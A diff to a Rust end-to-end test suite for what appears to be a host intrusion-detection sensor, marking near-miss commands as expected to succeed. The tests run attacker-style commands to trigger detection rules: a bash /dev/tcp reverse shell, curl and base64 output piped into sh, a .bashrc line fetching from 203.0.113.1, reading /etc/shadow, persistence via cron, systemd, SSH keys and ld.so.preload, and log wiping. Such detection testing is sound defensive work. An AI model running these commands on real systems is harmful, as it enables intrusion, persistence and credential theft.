@@ -18,7 +18,7 @@ use std::{
 
 use vigil_tests::{
     HttpServer, alert_below,
-    rules::{expect_rule, path, run, sensor, tmp},
+    rules::{expect_rule, path, run, run_ok, sensor, tmp},
     sensor_cmd,
 };
 
@@ -40,7 +40,7 @@ fn reverse_shell() {
         }
     });
     // Near miss: a program that is not a shell reading from a socket.
-    let near = run(&format!("bash -c 'cat < /dev/tcp/127.0.0.1/{port}'"));
+    let near = run_ok(&format!("bash -c 'cat < /dev/tcp/127.0.0.1/{port}'"));
     let real = run(&format!(
         "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
     ));
@@ -62,7 +62,7 @@ fn interactive_shell_under_networked_interpreter() {
             "python3 -c \"import socket,subprocess; s=socket.create_connection(('127.0.0.1',{port})); subprocess.run({shell}, stdin=subprocess.DEVNULL)\""
         )
     };
-    let near = run(&script("['/bin/sh','-c','true']"));
+    let near = run_ok(&script("['/bin/sh','-c','true']"));
     let real = run(&script("['/bin/sh']"));
     drop(l);
     expect_rule(&s, "vigil-networked-interpreter-shell", real, Some(near));
@@ -78,7 +78,7 @@ fn download_chmod_exec() {
     let http = HttpServer::serve(&d.path().to_string_lossy(), &[]);
     let url = format!("http://127.0.0.1:{}/p.sh", http.port);
     // Near miss: downloaded, but run through sh, never made executable.
-    let near = run(&format!(
+    let near = run_ok(&format!(
         "curl -s -o {f} {url} && sh {f}",
         f = path(&d, "near")
     ));
@@ -98,7 +98,7 @@ fn exec_from_temp_dirs() {
     let d = tmp();
     // Near miss: a program a compiler linked in /tmp.
     std::fs::write(d.path().join("m.c"), "int main(void){return 0;}\n").expect("write");
-    let near = run(&format!(
+    let near = run_ok(&format!(
         "cc -o {b} {c} && {b}",
         b = path(&d, "m"),
         c = path(&d, "m.c")
@@ -114,7 +114,7 @@ fn fileless_exec() {
     let Some(s) = sensor("fileless_exec") else {
         return;
     };
-    let near = run("python3 -c \"import os; os.execv('/bin/true', ['true'])\"");
+    let near = run_ok("python3 -c \"import os; os.execv('/bin/true', ['true'])\"");
     let real = run(
         "python3 -c \"import os; fd=os.memfd_create('x'); os.write(fd, open('/bin/true','rb').read()); os.execve(fd, ['x'], {})\"",
     );
@@ -147,7 +147,7 @@ fn web_server_spawns_shell() {
             .expect("chmod");
     }
     // Near miss: the same shell from a python that serves nothing.
-    let near = run("python3 -c \"import subprocess; subprocess.run(['/bin/sh','-c','id'])\"");
+    let near = run_ok("python3 -c \"import subprocess; subprocess.run(['/bin/sh','-c','id'])\"");
     let http = HttpServer::serve(&d.path().to_string_lossy(), &["--cgi"]);
     let real = run(&format!(
         "curl -s http://127.0.0.1:{}/cgi-bin/run.sh",
@@ -171,7 +171,7 @@ fn cron_persistence() {
         return;
     };
     let d = tmp();
-    let near = run(&format!(
+    let near = run_ok(&format!(
         "echo '* * * * * true' > {}",
         path(&d, "crontab.txt")
     ));
@@ -194,7 +194,7 @@ fn service_unit_persistence() {
         return;
     };
     let d = tmp();
-    let near = run(&format!("echo x > {}", path(&d, "systemd-notes.txt")));
+    let near = run_ok(&format!("echo x > {}", path(&d, "systemd-notes.txt")));
     let unit = path(&d, "etc/systemd/system/vigil-e2e.service");
     let real = run(&format!(
         "mkdir -p {}/etc/systemd/system && printf '[Service]\\nExecStart=/bin/true\\n' > {unit}",
@@ -211,7 +211,7 @@ fn authorized_keys_persistence() {
     let d = tmp();
     let ssh = d.path().join(".ssh");
     std::fs::create_dir(&ssh).expect("mkdir");
-    let near = run(&format!(
+    let near = run_ok(&format!(
         "echo 'host ssh-ed25519 AAAA' >> {}/known_hosts",
         ssh.display()
     ));
@@ -228,7 +228,7 @@ fn shell_rc_persistence() {
         return;
     };
     let d = tmp();
-    let near = run(&format!("echo x >> {}", path(&d, ".bashrc.bak")));
+    let near = run_ok(&format!("echo x >> {}", path(&d, ".bashrc.bak")));
     let real = run(&format!(
         "echo 'curl -s http://203.0.113.1/x | sh' >> {}",
         path(&d, ".bashrc")
@@ -244,7 +244,7 @@ fn ld_preload_persistence() {
     // In a scratch root, so the host's loader is never touched.
     let d = tmp();
     std::fs::create_dir(d.path().join("etc")).expect("mkdir");
-    let near = run(&format!("echo /usr/lib > {}", path(&d, "etc/ld.so.conf")));
+    let near = run_ok(&format!("echo /usr/lib > {}", path(&d, "etc/ld.so.conf")));
     let real = run(&format!(
         "echo /tmp/evil.so > {}",
         path(&d, "etc/ld.so.preload")
@@ -259,7 +259,7 @@ fn setuid_bit() {
         return;
     };
     let d = tmp();
-    let near = run(&format!(
+    let near = run_ok(&format!(
         "cp /bin/true {f} && chmod 755 {f}",
         f = path(&d, "near")
     ));
@@ -277,7 +277,7 @@ fn credential_read() {
     let Some(s) = sensor("credential_read") else {
         return;
     };
-    let near = run("cat /etc/hostname > /dev/null");
+    let near = run_ok("cat /etc/hostname > /dev/null");
     let real = run("cat /etc/shadow > /dev/null");
     let a = expect_rule(&s, "vigil-credential-read", real, Some(near));
     assert_eq!(a["entities"][0], "/etc/shadow");
@@ -289,7 +289,7 @@ fn log_tampering() {
         return;
     };
     let log = format!("/var/log/vigil-e2e-{}.log", std::process::id());
-    let near = run(&format!("echo line >> {log}"));
+    let near = run_ok(&format!("echo line >> {log}"));
     let real = run(&format!(": > {log}; rm -f {log}"));
     let a = expect_rule(&s, "vigil-log-tampering", real, Some(near));
     assert_eq!(a["entities"][0], log);
@@ -302,7 +302,7 @@ fn history_tampering() {
     };
     let d = tmp();
     let hist = path(&d, ".bash_history");
-    let near = run(&format!("echo ls >> {hist}"));
+    let near = run_ok(&format!("echo ls >> {hist}"));
     let real = run(&format!("cp /dev/null {hist}"));
     expect_rule(&s, "vigil-history-tampering", real, Some(near));
 }
@@ -324,7 +324,7 @@ fn kernel_module_load() {
         );
         return;
     }
-    let near = run("python3 -c \"import os; os.getpid()\"");
+    let near = run_ok("python3 -c \"import os; os.getpid()\"");
     let real = run("python3 -c \"import ctypes; ctypes.CDLL(None).syscall(313, 999, b'', 0)\"");
     expect_rule(&s, "vigil-kernel-module-load", real, Some(near));
 }
@@ -336,7 +336,7 @@ fn ptrace_attach() {
     };
     let mut victim = Command::new("sleep").arg("30").spawn().expect("sleep");
     // Near miss: a process tracing its own child.
-    let near = run(
+    let near = run_ok(
         "python3 -c \"import ctypes,os,time; c=os.fork()\nif c==0: time.sleep(2); os._exit(0)\nl=ctypes.CDLL(None); l.ptrace(16,c,0,0); time.sleep(0.2); l.ptrace(17,c,0,0); os.kill(c,9)\"",
     );
     let real = run(&format!(
@@ -364,7 +364,7 @@ fn local_account_creation() {
     };
     let name = format!("vgl{}", std::process::id() % 100_000);
     let _guard = Account(name.clone());
-    let near = run("getent passwd root > /dev/null");
+    let near = run_ok("getent passwd root > /dev/null");
     let real = run(&format!("useradd -M -s /bin/false {name}"));
     let a = expect_rule(&s, "vigil-local-account-created", real, Some(near));
     assert!(
@@ -388,12 +388,12 @@ fn port_scan() {
         .max(20_000);
     let scan = |n: u16| {
         format!(
-            "bash -c 'for p in $(seq {} {}); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done'",
+            "bash -c 'for p in $(seq {} {}); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; exit 0'",
             base,
             base + n - 1
         )
     };
-    let near = run(&scan(5));
+    let near = run_ok(&scan(5));
     let real = run(&scan(30));
     let a = expect_rule(&s, "vigil-port-scan", real, Some(near));
     assert!(a["evidence"].as_array().is_some_and(|e| e.len() >= 20));
@@ -404,7 +404,7 @@ fn encoded_payload_into_shell() {
     let Some(s) = sensor("encoded_payload_into_shell") else {
         return;
     };
-    let near = run("echo ZWNobyBoaQo= | base64 -d | cat");
+    let near = run_ok("echo ZWNobyBoaQo= | base64 -d | cat");
     let real = run("echo ZWNobyBoaQo= | base64 -d | sh");
     let a = expect_rule(&s, "vigil-encoded-payload-to-shell", real, Some(near));
     assert_eq!(a["evidence"].as_array().map(Vec::len), Some(2));
@@ -419,7 +419,7 @@ fn download_into_shell() {
     std::fs::write(d.path().join("i.sh"), "echo installed\n").expect("write");
     let http = HttpServer::serve(&d.path().to_string_lossy(), &[]);
     let url = format!("http://127.0.0.1:{}/i.sh", http.port);
-    let near = run(&format!("curl -s {url} | cat"));
+    let near = run_ok(&format!("curl -s {url} | cat"));
     let real = run(&format!("curl -s {url} | sh"));
     expect_rule(&s, "vigil-download-to-shell", real, Some(near));
 }
@@ -435,7 +435,7 @@ fn bpf_program_load() {
         )
     };
     // Near miss: BPF_MAP_CREATE with nonsense (a bpf() call that loads nothing).
-    let near = run(&load(0));
+    let near = run_ok(&load(0));
     let real = run(&load(5));
     let a = expect_rule(&s, "vigil-bpf-program-load", real, Some(near));
     assert_eq!(a["evidence"][0]["command_name"], "BPF_PROG_LOAD");
@@ -447,7 +447,7 @@ fn signal_to_the_sensor() {
         return;
     };
     let pid = s.pid();
-    let near = run(&format!("kill -0 {pid}"));
+    let near = run_ok(&format!("kill -0 {pid}"));
     // Stopped, then let go: a frozen sensor is a blind one.
     let real = run(&format!("kill -STOP {pid}; kill -CONT {pid}"));
     let a = expect_rule(&s, "vigil-sensor-tampering-signal", real, Some(near));
@@ -460,7 +460,7 @@ fn writes_to_the_sensors_files() {
         return;
     };
     let state = s.state();
-    let near = run(&format!(
+    let near = run_ok(&format!(
         "echo x > {}",
         s.dir.path().join("beside-the-state").display()
     ));
